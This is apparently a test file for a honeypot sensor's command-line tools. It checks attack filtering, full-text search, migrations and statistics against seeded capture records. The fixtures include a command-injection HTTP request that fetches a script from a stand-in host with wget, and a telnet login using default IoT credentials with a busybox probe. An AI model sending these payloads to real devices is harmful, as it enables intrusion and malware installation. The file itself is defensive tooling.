import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import Database from 'better-sqlite3'
import pino from 'pino'
import { describe, expect, it, onTestFinished } from 'vitest'
import type { Attack } from '../../src/attack/attack.js'
import { parseFilterFlags, type FilterFlagValues } from '../../src/cli/filter-flags.js'
import { hasErrorCode } from '../../src/core/errors.js'
import { listAttacks, openAttackDatabase } from '../../src/store/attack-query.js'
import { loadMigrations, migrate, type Migration } from '../../src/store/migrate.js'
import { attackStats, type AttackStats } from '../../src/store/attack-stats.js'
import type { AttackFilter } from '../../src/store/attack-filter.js'
import { SqliteWriter } from '../../src/store/sqlite-writer.js'
import { corpusBatches } from '../../src/bench/attack-corpus.js'
import { formatAttackStats } from '../../src/cli/stats-format.js'
import { createSqliteStore } from '../../src/store/sqlite-store.js'
import { attackRecord } from '../helpers/attack-record.js'

// Every filter of `attacks list` against a database written by the sensor's own store.

const BASE_MS = Date.UTC(2026, 10, 20, 12, 0, 0)

interface Spec {
  readonly id: string
  readonly at: number // seconds after BASE_MS
  readonly src: string
  readonly port: number
  readonly protocol?: 'tcp' | 'udp'
  readonly mode?: Attack['mode']
  readonly close?: Attack['closeReason']
  readonly payload: string | Buffer
}

const SPECS: readonly Spec[] = [
  { id: 'A', at: 0, src: '203.0.113.5', port: 80, payload: 'GET /shell?cd+/tmp;wget+http://198.51.100.7/x.sh HTTP/1.1\r\n\r\n' },
  { id: 'B', at: 60, src: '203.0.113.77', port: 8080, payload: 'POST /cgi-bin/ViewLog.asp HTTP/1.1\r\n\r\nremote_submit_Flag=1' },
  { id: 'C', at: 120, src: '198.51.100.9', port: 445, payload: Buffer.concat([Buffer.from('00000085ff534d4272', 'hex'), Buffer.from('\x1b[2J\x00', 'latin1')]) },
  { id: 'D', at: 180, src: '2001:db8::17', port: 23, close: 'idle-timeout', payload: 'root\r\nxc3511\r\n/bin/busybox ECCHI\r\n' },
  { id: 'E', at: 240, src: '2001:db8:1::1', port: 5060, protocol: 'udp', payload: 'OPTIONS sip:100@192.0.2.1 SIP/2.0\r\n' },
  { id: 'F', at: 300, src: '203.0.113.5', port: 8443, mode: 'mirror', close: 'size-limit', payload: 'x'.repeat(5_000) },
]

function attackOf(spec: Spec): Attack {
  const payload = typeof spec.payload === 'string' ? Buffer.from(spec.payload, 'latin1') : spec.payload
  const startedAtMs = BASE_MS + spec.at * 1_000
  const v6 = spec.src.includes(':')
  return attackRecord(payload, {
    id: `01JZ${spec.id.padStart(22, '0')}`,
    protocol: spec.protocol ?? 'tcp',
    family: v6 ? 6 : 4,
    mode: spec.mode ?? 'normal',
    source: { address: spec.src, port: 40_000 },
    target: { address: v6 ? '2001:db8::1' : '192.0.2.1', port: spec.port },
    startedAtMs,
    endedAtMs: startedAtMs + 100,
    closeReason: spec.close ?? 'peer-closed',
  })
}

async function seeded(): Promise<Database.Database> {
  const dir = mkdtempSync(join(tmpdir(), 'ht-filter-'))
  onTestFinished(() => rmSync(dir, { recursive: true, force: true }))
  const path = join(dir, 'attacks.db')
  const store = await createSqliteStore({ path, batchWindowMs: 10, batchMaxAttacks: 100, maxQueuedAttacks: 100, maxQueuedBytes: 1 << 24, log: pino({ level: 'silent' }) })
  for (const spec of SPECS) store.enqueue(attackOf(spec))
  await store.close()
  // A successful download for A, a failed one for B (plugin tables, schema 3).
  const rw = new Database(path)
  const run = (attackId: string): number => Number(rw.prepare("INSERT INTO plugin_runs (attack_id, subject_sha256, plugin, status, started_at, duration_ms) VALUES (?, 'x', 'httpDownload', 'ok', 0, 1)").run(attackId).lastInsertRowid)
  const download = rw.prepare("INSERT INTO downloads (run_id, attack_id, subject_sha256, plugin, url, outcome, bytes, sha256, started_at, duration_ms) VALUES (?, ?, 'x', 'httpDownload', 'http://198.51.100.7/x.sh', ?, 10, ?, 0, 1)")
  download.run(run('01JZ000000000000000000000A'), '01JZ000000000000000000000A', 'ok', 'a'.repeat(64))
  download.run(run('01JZ000000000000000000000B'), '01JZ000000000000000000000B', 'connect-failed', null)
  rw.close()
  const db = openAttackDatabase(path)
  onTestFinished(() => {
    db.close()
  })
  return db
}

/** A migrations folder holding only `migrations`: a database left at an older schema, as an older sensor wrote it. */
function copyMigrations(dir: string, migrations: readonly Migration[]): string {
  const folder = join(dir, 'migrations')
  mkdirSync(folder)
  for (const m of migrations) writeFileSync(join(folder, m.name), m.sql)
  return folder
}

function ids(db: Database.Database, flags: FilterFlagValues): string[] {
  const page = listAttacks(db, { limit: 100, filter: parseFilterFlags(flags, BASE_MS + 3_600_000) })
  expect(page.total).toBe(page.attacks.length)
  return page.attacks.map((a) => a.id.slice(-1)).sort()
}

describe('attacks list filters', () => {
  it('selects by each criterion, and by all of them together', async () => {
    const db = await seeded()
    expect(ids(db, {})).toEqual(['A', 'B', 'C', 'D', 'E', 'F'])
    expect(ids(db, { since: '2026-11-20T12:02:00Z' })).toEqual(['C', 'D', 'E', 'F'])
    expect(ids(db, { until: '2026-11-20 12:02' })).toEqual(['A', 'B'])
    expect(ids(db, { since: '57m' })).toEqual(['D', 'E', 'F']) // an hour after BASE: 12:03 on
    expect(ids(db, { source: '203.0.113.5' })).toEqual(['A', 'F'])
    expect(ids(db, { source: '203.0.113.0/24' })).toEqual(['A', 'B', 'F'])
    expect(ids(db, { source: '2001:db8::/32' })).toEqual(['D', 'E'])
    expect(ids(db, { source: '2001:db8::17' })).toEqual(['D'])
    expect(ids(db, { port: '8000-8500' })).toEqual(['B', 'F'])
    expect(ids(db, { port: '445' })).toEqual(['C'])
    expect(ids(db, { protocol: 'udp' })).toEqual(['E'])
    expect(ids(db, { mode: 'mirror' })).toEqual(['F'])
    expect(ids(db, { 'close-reason': 'idle-timeout' })).toEqual(['D'])
    expect(ids(db, { 'min-size': '1000' })).toEqual(['F'])
    expect(ids(db, { 'has-downloads': true })).toEqual(['A'])
    expect(ids(db, { 'no-downloads': true })).toEqual(['B', 'C', 'D', 'E', 'F'])
    const telnet = Buffer.from('root\r\nxc3511\r\n/bin/busybox ECCHI\r\n', 'latin1')
    for (const algo of ['md5', 'sha256', 'sha512']) expect(ids(db, { hash: createHash(algo).update(telnet).digest('hex').toUpperCase() })).toEqual(['D'])
    expect(ids(db, { contains: 'wget+http' })).toEqual(['A'])
    expect(ids(db, { contains: '\\xff\\x53\\x4d\\x42' })).toEqual(['C']) // \xffSMB
    expect(ids(db, { contains: '\\x1b[2J\\x00' })).toEqual(['C'])
    expect(ids(db, { regex: 'busybox [A-Z]{5}' })).toEqual(['D'])
    expect(ids(db, { regex: '/^(get|post) /i' })).toEqual(['A', 'B'])
    expect(ids(db, { regex: '/^OPTIONS sip:\\d+@/' })).toEqual(['E'])
    expect(ids(db, { source: '203.0.113.0/24', port: '80-8443', protocol: 'tcp', regex: 'HTTP', 'has-downloads': true })).toEqual(['A'])
  })

  it('searches the printable text with --text and --match, in step with the writer', async () => {
    const db = await seeded()
    expect(ids(db, { text: 'wget' })).toEqual(['A'])
    expect(ids(db, { text: 'WGET x.sh' })).toEqual(['A']) // case-insensitive; "x.sh" is the phrase x sh
    expect(ids(db, { text: '/bin/busybox' })).toEqual(['D'])
    expect(ids(db, { text: 'busybox wget' })).toEqual([]) // every word must be there
    expect(ids(db, { text: 'HTTP/1.1' })).toEqual(['A', 'B'])
    expect(ids(db, { text: 'SMB' })).toEqual([]) // "\xffSMBr" is a run of 4 with r, SMBr: a word of its own
    expect(ids(db, { text: 'SMBr' })).toEqual(['C'])
    expect(ids(db, { match: 'wget OR ViewLog' })).toEqual(['A', 'B'])
    expect(ids(db, { match: 'busy*' })).toEqual(['D'])
    expect(ids(db, { match: 'HTTP NOT shell' })).toEqual(['B'])
    expect(ids(db, { match: 'NEAR(OPTIONS SIP, 5)' })).toEqual(['E'])
    expect(ids(db, { text: 'HTTP', match: 'cgi OR tmp', port: '80' })).toEqual(['A'])
    // Retention's deletes take the index rows with them (trigger): a search never names a missing attack.
    const path = db.name
    const rw = new Database(path)
    rw.prepare("DELETE FROM attacks WHERE id LIKE '%A'").run()
    expect(rw.prepare<[], { n: number }>("SELECT count(*) AS n FROM attack_text WHERE attack_text MATCH 'wget'").get()!.n).toBe(0)
    rw.close()
    expect(ids(db, { text: 'wget' })).toEqual([])
  })

  it('indexes what was stored before schema 5 when the sensor migrates the file', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ht-fts-'))
    onTestFinished(() => rmSync(dir, { recursive: true, force: true }))
    const path = join(dir, 'attacks.db')
    const old = new Database(path)
    const through4 = loadMigrations().slice(0, 4)
    migrate(old, { migrationsDir: copyMigrations(dir, through4) })
    expect(Number(old.pragma('user_version', { simple: true }))).toBe(4)
    old.prepare(
      `INSERT INTO attacks (id, protocol, family, mode, src_ip, src_port, dst_ip, dst_port, started_at, ended_at, close_reason, bytes_received,
       bytes_sent, truncated, payload, payload_size, md5, sha256, sha512) VALUES ('01JZOLD', 'tcp', 4, 'normal', '203.0.113.1', 1, '192.0.2.1', 23,
       0, 1, 'peer-closed', 11, 0, 0, ?, 11, 'm', 's', 'x')`,
    ).run(Buffer.from('enable\x00shell', 'latin1'))
    // Read-only, as the CLI opens it: the search names the fix instead of finding nothing.
    const before = openAttackDatabase(path)
    expect(() => listAttacks(before, { limit: 10, filter: parseFilterFlags({ text: 'shell' }) })).toThrow(/needs the index that schema 5 adds.*start the sensor on it once/)
    before.close()
    migrate(old)
    old.close()
    const after = openAttackDatabase(path)
    onTestFinished(() => {
      after.close()
    })
    expect(listAttacks(after, { limit: 10, filter: parseFilterFlags({ text: 'shell' }) }).attacks.map((a) => a.id)).toEqual(['01JZOLD'])
    expect(listAttacks(after, { limit: 10, filter: parseFilterFlags({ text: 'enable' }) }).total).toBe(1)
  })

  it('pages in time order with the total of the whole selection', async () => {
    const db = await seeded()
    const page = listAttacks(db, { limit: 2, offset: 1, filter: parseFilterFlags({ protocol: 'tcp' }) })
    expect(page.total).toBe(5)
    expect(page.attacks.map((a) => a.id.slice(-1))).toEqual(['D', 'C']) // newest first: F, [D, C], B, A
  })

  it('refuses a bad flag with a usage error naming it, before any database is opened', () => {
    const cases: [FilterFlagValues, RegExp][] = [
      [{ since: 'yesterday' }, /--since "yesterday" is neither a duration/],
      [{ since: '2026-11-21', until: '2026-11-20' }, /--since .* must be before --until/],
      [{ source: '203.0.113.0/33' }, /--source "203\.0\.113\.0\/33" is not an address or range/],
      [{ port: '70000' }, /--port "70000" is not a port or a range/],
      [{ port: '80/tcp' }, /--port "80\/tcp" is not a port or a range/],
      [{ protocol: 'icmp' }, /--protocol "icmp" is not valid/],
      [{ mode: 'trap' }, /--mode "trap" is not valid; expected normal, ignore, mirror, proxy/],
      [{ 'close-reason': 'Peer Closed' }, /--close-reason "Peer Closed" is not a close reason/],
      [{ 'min-size': '-1' }, /--min-size "-1" is not valid/],
      [{ hash: 'abc' }, /--hash "abc" is not an md5, sha256 or sha512/],
      [{ contains: '\\q' }, /--contains: "\\q" at character 1 is not an escape/],
      [{ contains: '\\x4' }, /is not an escape/],
      [{ regex: '(' }, /--regex "\(" is not a valid regular expression/],
      [{ 'has-downloads': true, 'no-downloads': true }, /exclude each other/],
      [{ source: '\u001b[31mred' }, /--source "\?\[31mred"/], // control bytes never echoed back
      [{ text: '   ' }, /--text needs at least one word/],
      [{ text: 'wget /' }, /--text: "\/" has no letter or digit.*--contains/],
      [{ match: 'wget http://x' }, /--match "wget http:\/\/x" is not a valid full-text query \(no such column: http\)/],
      [{ match: '"open' }, /--match .* is not a valid full-text query \(unterminated string\)/],
      [{ match: 'a OR' }, /--match "a OR" is not a valid full-text query \(syntax error/],
    ]
    for (const [flags, message] of cases) {
      let caught: unknown
      try {
        parseFilterFlags(flags)
      } catch (err) {
        caught = err
      }
      expect(hasErrorCode(caught, 'HT_ERR_CLI_USAGE'), JSON.stringify(flags)).toBe(true)
      expect((caught as Error).message).toMatch(message)
    }
  })
})

describe('attacks stats', () => {
  it('counts ports, sources, payloads, new sources and a timeline, under the same filters', async () => {
    const db = await seeded()
    const all = attackStats(db, {}, { top: 3 })
    expect(all.total).toBe(6)
    expect(all.firstMs).toBe(BASE_MS)
    expect(all.lastMs).toBe(BASE_MS + 300_000)
    expect(all.topSources[0]).toEqual({ address: '203.0.113.5', count: 2 })
    expect(all.topPorts).toHaveLength(3)
    expect(all.sources).toEqual({ distinct: 5, new: 5, seenBefore: 0 })
    expect(all.timeline.bucketMs).toBe(60_000) // 5 minutes of attacks: one line a minute
    expect(all.timeline.buckets.map((b) => b.count)).toEqual([1, 1, 1, 1, 1, 1])
    // From 12:04:30 on only F remains, from a source seen at 12:00: not new.
    const late = attackStats(db, parseFilterFlags({ since: '2026-11-20T12:04:30Z' }), { top: 3 })
    expect(late.total).toBe(1)
    expect(late.sources).toEqual({ distinct: 1, new: 0, seenBefore: 1 })
    expect(late.topPayloads).toEqual([{ sha256: createHash('sha256').update('x'.repeat(5_000)).digest('hex'), size: 5_000, count: 1, firstMs: BASE_MS + 300_000, lastMs: BASE_MS + 300_000, sources: 1 }])
    const tcp = attackStats(db, parseFilterFlags({ protocol: 'udp' }), { top: 3 })
    expect(tcp.topPorts).toEqual([{ port: 5060, protocol: 'udp', count: 1 }])
    // The text form carries metadata only: the escape sequence in C's payload never appears.
    const text = formatAttackStats(all)
    expect(text).toContain('6 attacks from 2026-11-20 12:00:00 to 2026-11-20 12:05:00 UTC')
    expect(text).not.toContain('\u001b')
    expect(formatAttackStats(attackStats(db, parseFilterFlags({ port: '1-10' }), { top: 3 }))).toBe('no attacks match')
  })
})

describe('attacks stats, either way it is computed', () => {
  // The figures from the rows the filter selects (listAttacks, whose filters are tested above), counted here the plain
  // way. Time-only filters take the index queries, the others the one-pass scan: both must give exactly this.
  function oracle(db: Database.Database, filter: AttackFilter, top: number): Omit<AttackStats, 'timeline'> & { readonly buckets: number } {
    const rows = listAttacks(db, { limit: 1_000_000, filter }).attacks
    const tally = <K>(key: (r: (typeof rows)[number]) => K): Map<K, (typeof rows)[number][]> => {
      const groups = new Map<K, (typeof rows)[number][]>()
      for (const r of rows) groups.set(key(r), [...(groups.get(key(r)) ?? []), r])
      return groups
    }
    const byText = (a: string, b: string): number => (a < b ? -1 : a > b ? 1 : 0)
    const ports = [...tally((r) => `${r.dst_port}/${r.protocol}`).values()]
      .map((g) => ({ port: g[0]!.dst_port, protocol: g[0]!.protocol, count: g.length }))
      .sort((a, b) => b.count - a.count || a.port - b.port || byText(a.protocol, b.protocol))
    const sources = [...tally((r) => r.src_ip)].map(([address, g]) => ({ address, count: g.length, firstMs: Math.min(...g.map((r) => r.started_at)) }))
    const payloads = [...tally((r) => r.sha256)]
      .filter(([sha256]) => sha256 !== createHash('sha256').digest('hex'))
      .map(([sha256, g]) => ({
        sha256,
        size: Math.max(...g.map((r) => r.payload_size)),
        count: g.length,
        firstMs: Math.min(...g.map((r) => r.started_at)),
        lastMs: Math.max(...g.map((r) => r.started_at)),
        sources: new Set(g.map((r) => r.src_ip)).size,
      }))
      .sort((a, b) => b.count - a.count || byText(a.sha256, b.sha256))
    const earlier = db.prepare<[string, number], number>('SELECT 1 FROM attacks WHERE src_ip = ? AND started_at < ?').pluck()
    const fresh = sources.filter((s) => earlier.get(s.address, s.firstMs) === undefined).length
    const times = rows.map((r) => r.started_at)
    return {
      total: rows.length,
      firstMs: rows.length === 0 ? null : Math.min(...times),
      lastMs: rows.length === 0 ? null : Math.max(...times),
      topPorts: ports.slice(0, top),
      topSources: sources.sort((a, b) => b.count - a.count || byText(a.address, b.address)).slice(0, top).map(({ address, count }) => ({ address, count })),
      topPayloads: payloads.slice(0, top),
      sources: { distinct: sources.length, new: fresh, seenBefore: sources.length - fresh },
      buckets: rows.length,
    }
  }

  it('gives the figures the selected rows give, for filters of every kind', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ht-stats-'))
    onTestFinished(() => rmSync(dir, { recursive: true, force: true }))
    const dbPath = join(dir, 'attacks.db')
    const endMs = Date.UTC(2026, 10, 1)
    const writer = SqliteWriter.open(dbPath, { busyTimeoutMs: 1_000, log: pino({ level: 'silent' }) })
    for (const batch of corpusBatches({ count: 3_000, endMs, spanMs: 2 * 86_400_000, seed: 7 }, 250)) writer.write(batch, true)
    await writer.close()
    const db = openAttackDatabase(dbPath)
    onTestFinished(() => {
      db.close()
    })
    const filters: AttackFilter[] = [
      {},
      { sinceMs: endMs - 86_400_000 },
      { sinceMs: endMs - 30 * 3_600_000, untilMs: endMs - 6 * 3_600_000 },
      { ports: { from: 23, to: 23 } },
      { ports: { from: 1, to: 1_024 }, sinceMs: endMs - 86_400_000 },
      { protocol: 'udp' },
      { minBytes: 200 },
      { source: parseFilterFlags({ source: '100.64.0.0/18' }).source! },
      { text: '"busybox"' },
    ]
    for (const filter of filters) {
      const expected = oracle(db, filter, 5)
      const got = attackStats(db, filter, { top: 5 })
      expect(expected.total, JSON.stringify(filter)).toBeGreaterThan(0)
      const { timeline, ...figures } = got
      const { buckets, ...want } = expected
      expect(figures, JSON.stringify(filter)).toEqual(want)
      // Each bucket starts on its width and the buckets add up to the selection.
      expect(timeline.buckets.reduce((n, b) => n + b.count, 0), JSON.stringify(filter)).toBe(buckets)
      for (const b of timeline.buckets) expect(b.startMs % timeline.bucketMs).toBe(0)
    }
  })
})
